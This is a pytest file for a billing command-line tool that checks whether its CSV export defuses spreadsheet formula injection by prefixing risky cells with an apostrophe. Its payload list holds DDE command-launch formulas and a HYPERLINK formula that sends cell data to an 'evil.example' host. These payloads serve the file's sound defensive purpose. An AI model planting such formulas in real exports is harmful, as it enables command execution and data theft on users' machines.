"""Row 5: a cell of a csv is a text or a number, and no spreadsheet computes the text of somebody else."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from billcli.core.report import Column, Report
from billcli.model.money import Money
from billcli.render.report import _harmless, as_csv
from tests.security.test_payees import DAY
from tests.support import bill, done, make_ledger

FORMULAS = [
    "=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠x", " =1+1", "\t=1", "\r=1", "\n=1", "\0=1",
    "\xa0=1", "\u3000＝1",
    '=HYPERLINK("http://evil.example?"&A1)', "=IMPORTXML(1)", "-2+3+cmd|' /C calc'!D2", "\x0b=1", "\x1c=1",
    "\u2028=1", "=", "-", "+49 40 1",
]  # fmt: skip
TEXTS = ["Nordwind", "a=1", "A-B", "anna@nordwind.example", "", "'quoted", "1-2", "\u200b=1"]


def cells(*rows: object) -> list[str]:
    from datetime import date

    report = Report("x", date(2026, 6, 30), (Column("name", "Name"),), [(row,) for row in rows])
    return [row[0] if row else "" for row in csv.reader(io.StringIO(as_csv(report)))][1:]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_be_computed_gets_an_apostrophe(text: str) -> None:
    assert _harmless(text) == "'" + text
    if "\r" not in text:  # no text of a ledger holds one
        assert cells(text) == ["'" + text]
        assert cells([text, "b"])[0].startswith("'")


def test_other_texts_and_all_numbers_stay_as_they_are() -> None:
    assert cells(*TEXTS) == TEXTS
    assert cells(Money(-500, "EUR"), -5, None, True) == ["-5.00", "-5", "", "true"]


@pytest.mark.parametrize("name", ["=1+1", "@SUM(1)", "-1+1", "＝x", "'=1", "''=1", "''", "'quoted"])
def test_a_name_comes_back_from_a_csv_as_it_was(tmp_path: Path, name: str) -> None:
    """The apostrophe is taken away where it protects, and only there."""
    books, other = make_ledger(tmp_path / "books"), make_ledger(tmp_path / "other")
    done("customer", "add", "--id", "evil", "--name", name, "--yes", cwd=books, at=DAY)
    (tmp_path / "customers.csv").write_text(bill("customer", "list", "--format", "csv", cwd=books, at=DAY).out)
    done("customer", "import", str(tmp_path / "customers.csv"), "--yes", cwd=other, at=DAY)
    [row] = bill("customer", "list", "--format", "json", cwd=other, at=DAY).json["rows"]
    assert row["name"] == name
